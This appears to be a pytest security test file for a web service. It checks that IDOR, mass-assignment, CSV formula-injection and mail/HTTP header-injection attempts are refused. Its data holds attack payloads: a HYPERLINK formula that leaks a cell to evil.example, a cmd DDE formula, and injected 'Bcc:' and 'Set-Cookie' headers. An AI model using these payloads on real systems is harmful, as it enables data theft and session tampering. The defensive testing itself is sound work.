"""Attacks through what is typed and named: records of others, fields that are not the sender's, text that
runs elsewhere.
"""

import csv
import io
from urllib.parse import quote

import pytest

from lcm_service.domain.permissions import SYSTEM
from lcm_service.mail.smtp import MailRefused, Postbox
from lcm_service.mail.texts import Text
from lcm_service.persistence.database import db
from lcm_service.persistence.tables import Invitation, Need, Person
from lcm_service.services import invitations
from tests import factories
from tests.api.callers import Caller
from tests.attacks.browsers import form_at, send
from tests.fixtures import sign_in
from tests.service import matching_rounds as rounds

PASSWORD = "mule fathom cedar plinth"
# What a field of a header could become where a line end in a text is believed.
SPLITS = ("\r\n", "\n", "\r", "\u2028", "\x0b", "\x85")


# Fields of a need that are a coordinator's or the service's to write.
FORGED_OF_NEED = {
    "seats_recognised": "900",
    "priority_recognised": "critical",
    "recognition_reason": "So it is",
    "state": "recognised",
    "reference": "N-0001X",
    "version": "9",
    "source": "https://evil.example",
    "round_id": "99",
    "id": "99",
}


class TestIdor:
    """The attacker changes the number in an address. `walk/test_refusals.py` asks every address as each role;
    here are the numbers that stand inside what is sent.
    """

    def test_a_record_of_another_state_is_reached_by_no_number_that_is_sent(self, app):
        round_ = factories.make_round("R")
        theirs = factories.make_need(round=round_, title="Theirs")
        attacker = Caller(app, factories.make_person())
        own = attacker.post("/needs/", {"round": "R", "title": "Own"}).json["reference"]
        for sent in ({"reference": theirs.reference}, {"id": theirs.id}, {"participant_id": 1}):
            assert attacker.patch(f"/needs/{own}", sent, version=1).status_code == 422, sent
        for code in (theirs.participant.code, "", "XZZ", f"{theirs.participant.code} "):
            sent = {"round": "R", "title": "In their name", "participant": code}
            answer = attacker.post("/needs/", sent)
            assert answer.status_code in {403, 422} or answer.json["participant"] != code, code
        ways = (("GET", ""), ("PATCH", ""), ("POST", "/withdrawal"), ("PUT", "/recognition"))
        for method, path in ways:
            answer = attacker.call(method, f"/needs/{theirs.reference}{path}", version=1, json={})
            assert answer.status_code in {403, 404, 422}, path
        db.session.expire_all()
        stored = db.session.get(Need, theirs.id)
        assert (stored.title, stored.version) == ("Theirs", 1)
        assert db.session.query(Need).filter_by(title="In their name").count() <= 1

    def test_a_form_that_names_another_state_is_recorded_for_ones_own(self, app):
        factories.make_round("R")
        other, attacker = factories.make_participant(), factories.make_person()
        browser = app.test_client()
        sign_in(browser, attacker)
        send(browser, "/rounds/R/needs/new", title="T", participant=other.code, participant_id=str(other.id))
        assert db.session.query(Need).one().participant_id == attacker.participant_id


class TestMassAssignment:
    """The attacker adds fields to a form that the page never had."""

    def test_a_need_is_not_recognised_by_its_own_form(self, app):
        factories.make_round("R")
        browser, person = app.test_client(), factories.make_person()
        sign_in(browser, person)
        answer = send(browser, "/rounds/R/needs/new", title="T", seats_asked="5", **FORGED_OF_NEED)
        assert answer.status_code == 303
        self.assert_as_submitted(person)
        reference = db.session.query(Need).one().reference
        page = f"/needs/{reference}/revise"
        sent = FORGED_OF_NEED | {"version": "1", "seats_asked": "6"}
        assert send(browser, page, **sent).status_code == 303
        self.assert_as_submitted(person)

    def assert_as_submitted(self, person):
        db.session.expire_all()
        need = db.session.query(Need).one()
        assert (need.seats_recognised, need.priority_recognised, need.recognition_reason) == (None,) * 3
        assert (need.state, need.source, need.reference) == ("submitted", None, "N-0001")
        assert need.participant_id == person.participant_id

    @pytest.mark.parametrize("field", [*FORGED_OF_NEED, "participant_id", "created_at"])
    def test_the_api_refuses_such_a_field_by_name(self, app, field):
        factories.make_round("R")
        attacker = Caller(app, factories.make_person())
        sent = {"round": "R", "title": "T", field: FORGED_OF_NEED.get(field, "1")}
        answer = attacker.post("/needs/", sent)
        assert answer.status_code == 422
        assert [one["pointer"] for one in answer.json["errors"]] == [f"/{field}"]
        assert db.session.query(Need).count() == 0

    def test_a_lead_invites_nobody_above_its_colleagues(self, app):
        lead = factories.make_person(is_lead=True)
        other = factories.make_participant()
        browser = app.test_client()
        sign_in(browser, lead)
        forged = {"role": "administrator", "participant_code": other.code, "is_lead": "yes"}
        answer = send(browser, "/people/invite", name="New", email="new@example.org", **forged)
        assert answer.status_code == 200
        invited = db.session.query(Invitation).one()
        assert (invited.role, invited.participant_id, invited.is_lead) == (
            "focal_point",
            lead.participant_id,
            False,
        )

    def test_who_accepts_an_invitation_becomes_what_it_says(self, app):
        lead = factories.make_person(is_lead=True)
        _, secret = invitations.invite(SYSTEM, email="new@example.org", name="New", role="observer")
        forged = {
            "role": "administrator",
            "participant_code": lead.participant.code,
            "is_lead": "yes",
            "email": "root@example.org",
            "is_demonstration": "yes",
        }
        page = f"/invitations/{secret}"
        assert send(app.test_client(), page, password=PASSWORD, **forged).status_code == 303
        person = db.session.query(Person).filter_by(name="New").one()
        assert (person.role, person.participant_id, person.is_lead) == ("observer", None, False)
        assert (person.email, person.is_demonstration) == ("new@example.org", False)


class TestFormulaInjection:
    """A title from one desk is a formula on another. There is no spreadsheet export yet: the table is CSV."""

    FORMULAS = (
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1)",
        "＝1+1",
        " =1+1",
        '=1+1";\r\n=2',
    )

    def test_no_cell_of_a_plan_that_is_taken_out_begins_like_a_formula(self, app):
        coordinator = rounds.coordinator()
        round_ = factories.make_round("R")
        provider = Caller(app, factories.make_person())
        for number, formula in enumerate(self.FORMULAS):
            sent = {
                "round": "R",
                "title": formula.replace("\r\n", " "),
                "areas": ["C-IED"],
                "level": "basic",
                "personnel": ["any"],
                "seats": 30,
                "min_seats": 1,
                "languages": ["en"],
                "mode": "online",
                "sessions": [
                    {"starts_on": f"2027-04-{number + 5:02}", "ends_on": f"2027-04-{number + 6:02}"}
                ],
            }
            if number == 0:
                factories.make_area("C-IED")
            assert provider.post("/offers/", sent).status_code == 201, formula
            factories.make_need(
                round=round_, title=formula, seats_asked=30, modes=["online"], women=0, personnel=["troops"]
            )
        plan = rounds.plan_of(coordinator, rounds.solve_round(coordinator, round_))
        browser = app.test_client()
        sign_in(browser, db.session.get(Person, coordinator.person_id))
        table = browser.get(f"/plans/{plan.id}/export.csv").text.removeprefix("\ufeff")
        cells = [cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row]
        assert sum("evil.example" in cell or "calc" in cell for cell in cells) >= 2
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "＝", "\t"))]


class TestHeaderInjection:
    """The attacker ends a line inside a text that becomes part of a header: of a mail, or of an answer."""

    @pytest.mark.parametrize("split", SPLITS)
    def test_no_name_and_no_address_with_a_line_end_gets_into_an_account(self, app, split):
        browser = app.test_client()
        sign_in(browser, factories.make_person(is_lead=True))
        for typed in (
            {"name": f"A{split}Bcc: spy@evil.example", "email": "a@example.org"},
            {"name": "A", "email": f"a@example.org{split}Bcc: spy@evil.example"},
        ):
            assert send(browser, "/people/invite", **typed).status_code == 422, typed
        assert db.session.query(Invitation).count() == 0

    @pytest.mark.parametrize("split", SPLITS[:3])
    def test_a_mail_to_such_an_address_is_not_handed_in(self, split):
        # Nobody listens on this port: a mail that were written would fail otherwise than for good.
        postbox = Postbox("127.0.0.1", 9, "lcm@example.org", with_tls=False)
        for to, subject in (
            (f"a@example.org{split}Bcc: b@example.org", "S"),
            ("a@example.org", f"S{split}Bcc: b"),
        ):
            with pytest.raises(MailRefused) as refusal:
                postbox.send(to, Text(subject, "A body"), "en")
            assert refusal.value.is_final

    @pytest.mark.parametrize("split", SPLITS)
    def test_no_answer_gets_a_header_of_the_attackers(self, app, split):
        factories.make_person("observer", email="o@example.org")
        browser = app.test_client()
        evil = f"/rounds{split}Set-Cookie: planted=1{split}{split}<script>"
        form = form_at(browser, "/sign-in").data(
            email="o@example.org", password=factories.PASSWORD, next=evil
        )
        answers = [browser.post("/sign-in", data=form)]
        answers.append(browser.get("/sign-in", query_string={"next": evil}))
        answers.append(browser.get(f"/needs/N-1{quote(split)}Set-Cookie:%20planted=1"))
        answers.append(browser.get(f"/api/v1/needs/{quote(split)}Set-Cookie:%20planted=1"))
        for answer in answers:
            lines = [f"{name}: {value}" for name, value in answer.headers]
            assert not [line for line in lines if "\r" in line or "\n" in line]
            assert not [
                value for value in answer.headers.getlist("Set-Cookie") if value.startswith("planted")
            ]
